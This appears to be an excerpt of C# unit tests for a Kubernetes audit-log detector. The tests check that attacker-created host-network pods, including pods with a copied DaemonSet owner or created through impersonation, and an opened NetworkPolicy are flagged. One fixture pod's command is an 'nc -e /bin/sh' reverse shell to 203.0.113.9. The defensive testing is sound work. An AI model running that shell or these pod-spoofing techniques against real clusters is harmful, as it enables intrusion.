    [Fact]
    public void A_host_network_pod_a_user_created_from_a_copied_controller_pod_manifest_is_reported_whatever_owner_it_names()
    {
        // kubectl get pod kube-proxy-… -o yaml, edited and created again, keeps the DaemonSet's ownerReference: the owner's
        // template was on the host network already, but the pod was created by the attacker, not by the DaemonSet's controller,
        // even when the attacker impersonates that controller (kubectl --as), as the role it gave itself allows.
        const string kubeProxy = """

            ---
            apiVersion: apps/v1
            kind: DaemonSet
            metadata: {name: kube-proxy, namespace: kube-system, uid: 1d0c4c1e-0001-4000-8000-0000000000a1}
            spec:
              selector: {matchLabels: {k8s-app: kube-proxy}}
              template:
                metadata: {labels: {k8s-app: kube-proxy}}
                spec: {hostNetwork: true, containers: [{name: kube-proxy, image: registry.k8s.io/kube-proxy:v1.30.2}]}
            """;
        static string Pod(string name, string owner, string user, string at, string agent, string[] groups, string? impersonating = null) =>
            Created(Event("create", "pods", "kube-system", name, user: user, groups: groups, at: at, userAgent: agent, code: 201, impersonating: impersonating,
                request: $$$"""{"kind":"Pod","apiVersion":"v1","metadata":{"name":"{{{name}}}","namespace":"kube-system","labels":{"k8s-app":"kube-proxy"},"ownerReferences":[{{{owner}}}]},"spec":{"nodeName":"node-1","hostNetwork":true,"containers":[{"name":"kube-proxy","image":"registry.k8s.io/kube-proxy:v1.30.2","command":["/bin/sh","-c","nc -e /bin/sh 203.0.113.9 4444"]}]}}"""));
        const string daemonSet = """{"apiVersion":"apps/v1","kind":"DaemonSet","name":"kube-proxy","uid":"1d0c4c1e-0001-4000-8000-0000000000a1","controller":true,"blockOwnerDeletion":true}""";
        const string node = """{"apiVersion":"v1","kind":"Node","name":"node-1","uid":"n1","controller":true}""";
        string[] attacker = ["system:serviceaccounts", "system:serviceaccounts:ci", "system:authenticated"];
        string[] log =
        [
            Pod("kube-proxy-x9z8y", daemonSet, Attacker, "21:00", Kubectl, attacker),
            Pod("kube-proxy-q2w3e", daemonSet, "system:serviceaccount:kube-system:daemon-set-controller", "21:01",
                "kube-controller-manager/v1.30.2 (linux/amd64) kubernetes/3968350/system:serviceaccount:kube-system:daemon-set-controller",
                ["system:serviceaccounts", "system:serviceaccounts:kube-system", "system:authenticated"]),
            Pod("kube-proxy-node-1", node, "system:node:node-1", "21:02", "kubelet/v1.30.2 (linux/amd64) kubernetes/3968350", ["system:nodes", "system:authenticated"]),
            Pod("etcd-node-1", node, Attacker, "21:03", Kubectl, attacker),
            Pod("kube-proxy-m4n5b", daemonSet, Attacker, "21:04", Kubectl, attacker, impersonating: "system:serviceaccount:kube-system:daemon-set-controller"),
        ];
        const string user = " " + Attacker + " ";
        Assert.Equal(
        [
            "events 5",
            "host-network-pod high 2024-05-01T21:00:00Z" + user + "create Pod kube-system/kube-proxy-x9z8y | ",
            "host-network-pod high 2024-05-01T21:03:00Z" + user + "create Pod kube-system/etcd-node-1 | ",
            "host-network-pod high 2024-05-01T21:04:00Z" + user + "create Pod kube-system/kube-proxy-m4n5b | ",
        ], Audit(Cluster + kubeProxy, log));
    }

    [Fact]
    public void A_policy_created_by_server_side_apply_is_tampering_that_opens_and_the_cause_of_what_it_let_through()
    {
        const string apply = "fieldManager=kubectl&fieldValidation=Strict&force=false";
        const string open = """{"apiVersion":"networking.k8s.io/v1","kind":"NetworkPolicy","metadata":{"name":"debug-access","namespace":"shop"},"spec":{"podSelector":{"matchLabels":{"app":"web"}},"ingress":[{"from":[{"namespaceSelector":{"matchLabels":{"kubernetes.io/metadata.name":"ci"}}}],"ports":[{"port":8080}]}]}}""";
        string[] log =
        [
            Event("patch", "networkpolicies", "shop", "debug-access", user: Attacker, at: "22:00", userAgent: Kubectl, level: "Request", code: 201, query: apply, request: open),
        ];
        const string by = " " + Attacker + " ";
        Assert.Equal(
        [
            "events 1",
            "network-policy-tampering high 2024-05-01T22:00:00Z" + by + "patch NetworkPolicy shop/debug-access | ci/runner[Pod] => shop/web[Deployment] : TCP 8080",
        ], Audit(log));
        Assert.Equal(
            ["via-policy-change ci/runner[Pod] > shop/web[Deployment] 8080 x1 2024-05-01T22:01:00Z..2024-05-01T22:01:00Z cause 2024-05-01T22:00:00Z" + by + "patch NetworkPolicy shop/debug-access"],
            BlindAuditStateCaseTests.Check(Cluster, [BlindAuditStateCaseTests.Flow("22:01", Runner, WebService, 80)], log));
    }
}
